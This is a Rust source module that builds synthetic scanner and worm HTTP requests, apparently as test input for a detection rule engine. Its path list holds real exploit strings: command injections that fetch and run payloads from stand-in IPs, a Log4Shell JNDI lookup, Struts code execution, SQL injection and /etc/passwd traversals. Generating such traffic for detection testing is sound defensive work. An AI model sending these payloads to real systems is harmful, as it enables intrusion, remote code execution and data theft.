//! HTTP requests as scanners and worms send them: what a rule looks for again and again, between tokens that are random.

use super::Random;

const METHODS: [&str; 4] = ["GET", "GET", "GET", "POST"];
const PATHS: [&str; 32] = [
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E`wget+http%3A%2F%2F198.51.100.7%2Ft`)",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/wp-login.php?redirect_to=%2Fwp-admin%2F&reauth=1&user=",
    "/wp-content/plugins/revslider/temp/update_extract/revslider/up.php?file=",
    "/xmlrpc.php?rsd=",
    "/.env?v=",
    "/.git/config?v=",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh?",
    "/etc/passwd%00.html?id=",
    "/manager/html/upload?org.apache.catalina.filters.CSRF_NONCE=",
    "/struts2-showcase/index.action?redirect:${%23a%3d(new%20java.lang.ProcessBuilder(new%20java.lang.String[]{'id'})).start()}&t=",
    "/solr/admin/cores?action=CREATE&name=core&config=solrconfig.xml&dataDir=",
    "/actuator/gateway/routes/",
    "/boaform/admin/formLogin?username=admin&psd=",
    "/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://203.0.113.9/m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=",
    "/shell?cd+/tmp;rm+-rf+*;wget+203.0.113.9/jaws;sh+/tmp/jaws&n=",
    "/HNAP1/?SOAPAction=http://purenetworks.com/HNAP1/GetDeviceSettings/&n=",
    "/phpmyadmin/index.php?pma_username=root&pma_password=&server=1&token=",
    "/search.php?q=1'+UNION+SELECT+NULL,concat(user,0x3a,password),NULL+FROM+users--+&page=",
    "/product.php?id=-1+OR+17-7%3d10&ref=",
    "/login.aspx?ReturnUrl=%2fdefault.aspx&__VIEWSTATE=",
    "/autodiscover/autodiscover.json?@evil.example/owa/?&Email=autodiscover/autodiscover.json%3F@evil.example&n=",
    "/owa/auth/x.js?t=",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession&n=",
    "/dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/&n=",
    "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd&n=",
    "/?x=${jndi:ldap://198.51.100.23:1389/Basic/Command/Base64/",
    "/api/v1/pods?limit=500&continue=",
    "/server-status?refresh=",
    "/HTTP/1.1/robots.txt?",
    "/?<script>alert(document.cookie)</script>&s=",
];
const HOSTS: [&str; 8] = [
    "www.example.org",
    "shop.example.org",
    "mail.example.org",
    "intranet.example.org",
    "api.example.org",
    "192.0.2.10",
    "192.0.2.11:8080",
    "cdn.example.net",
];
const AGENTS: [&str; 8] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:map_codes)",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "python-requests/2.31.0",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
];
const REFERERS: [&str; 4] = ["/", "/index.php", "/login", "/search?q="];
const FORM: &str =
    "log=admin&rememberme=forever&wp-submit=Log+In&redirect_to=%2Fwp-admin%2F&testcookie=1&pwd=";
const TOKEN: &[u8; 64] = b"0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ-_";

/// Puts the next request into `out`.
pub(super) fn put(out: &mut Vec<u8>, random: &mut Random) {
    out.clear();
    let method = one_of(random, &METHODS);
    let host = one_of(random, &HOSTS);
    put_text(out, &[method, " ", one_of(random, &PATHS)]);
    put_token(out, random, 4..=24);
    let agent = one_of(random, &AGENTS);
    put_text(
        out,
        &[" HTTP/1.1\r\nHost: ", host, "\r\nUser-Agent: ", agent],
    );
    put_text(
        out,
        &[
            "\r\nAccept: text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
            "\r\nAccept-Language: en-US,en;q=0.5\r\nAccept-Encoding: gzip, deflate",
        ],
    );
    if random.below(2) == 0 {
        let page = one_of(random, &REFERERS);
        put_text(out, &["\r\nReferer: http://", host, page]);
    }
    if random.below(2) == 0 {
        put_text(out, &["\r\nCookie: PHPSESSID="]);
        put_token(out, random, 26..=26);
        put_text(out, &["; _ga=GA1.2."]);
        put_number(out, random);
        put_text(out, &["; csrftoken="]);
        put_token(out, random, 32..=32);
    }
    match method {
        "POST" => put_form(out, random),
        _ => put_text(out, &["\r\nConnection: keep-alive\r\n\r\n"]),
    }
}

fn put_form(out: &mut Vec<u8>, random: &mut Random) {
    let mut form = FORM.as_bytes().to_vec();
    put_token(&mut form, random, 6..=100);
    let length = form.len().to_string();
    put_text(
        out,
        &[
            "\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ",
            &length,
            "\r\nConnection: close\r\n\r\n",
        ],
    );
    out.extend_from_slice(&form);
}

fn one_of<'a>(random: &mut Random, texts: &[&'a str]) -> &'a str {
    texts[random.below(texts.len() as u64) as usize]
}

fn put_text(out: &mut Vec<u8>, texts: &[&str]) {
    texts
        .iter()
        .for_each(|text| out.extend_from_slice(text.as_bytes()));
}

/// 6 random bits in each byte.
fn put_token(out: &mut Vec<u8>, random: &mut Random, bytes: std::ops::RangeInclusive<u64>) {
    let count = bytes.start() + random.below(bytes.end() - bytes.start() + 1);
    out.extend((0..count).map(|_| TOKEN[random.below(64) as usize]));
}

fn put_number(out: &mut Vec<u8>, random: &mut Random) {
    let number = random.below(1_000_000_000).to_string();
    out.extend_from_slice(number.as_bytes());
}
